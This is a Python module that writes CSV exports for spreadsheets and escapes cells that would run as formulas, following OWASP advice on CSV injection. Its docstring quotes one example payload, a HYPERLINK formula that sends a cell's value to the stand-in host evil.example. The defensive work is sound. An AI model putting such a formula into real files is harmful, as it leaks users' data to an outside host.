"""The one CSV writer for files people open in a spreadsheet (the at-risk export, `validate --report`).

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and, in some, tab or carriage return) as a
formula, so a customer's segment `=HYPERLINK("http://evil.example/?x="&A1,"click")` would become a live link
that leaks the row. As OWASP advises (CSV injection), such text cells get a leading single quote, which makes
the spreadsheet show them as text. Only strings are changed: numbers keep their sign (-0.5 stays -0.5), so a
column of figures still sums. Lines end in CRLF (RFC 4180), so a cell holding a line break stays one cell.
Files that are data rather than reading (inputs, quarantined rows meant to be
fixed and fed back) are written as they are, elsewhere.
"""

from __future__ import annotations

import csv
import io
import math
from collections.abc import Iterable, Sequence
from typing import TextIO

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    """The value as a spreadsheet should show it: text that would run as a formula quoted, missing values
    (None, NaN) empty, anything else as is."""
    if value is None or (isinstance(value, float) and math.isnan(value)):
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_LEADS):
        return "'" + value
    return value


def write_csv(out: TextIO, header: Sequence[str], rows: Iterable[Sequence[object]]) -> None:
    """Write the header and rows to `out`, every cell through `safe_cell`."""
    writer = csv.writer(out, lineterminator="\r\n")  # RFC 4180; the writer quotes a cell holding either character
    writer.writerow([safe_cell(name) for name in header])
    writer.writerows([safe_cell(value) for value in row] for row in rows)


def csv_text(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """The header and rows as CSV text, every cell through `safe_cell`."""
    out = io.StringIO()
    write_csv(out, header, rows)
    return out.getvalue()
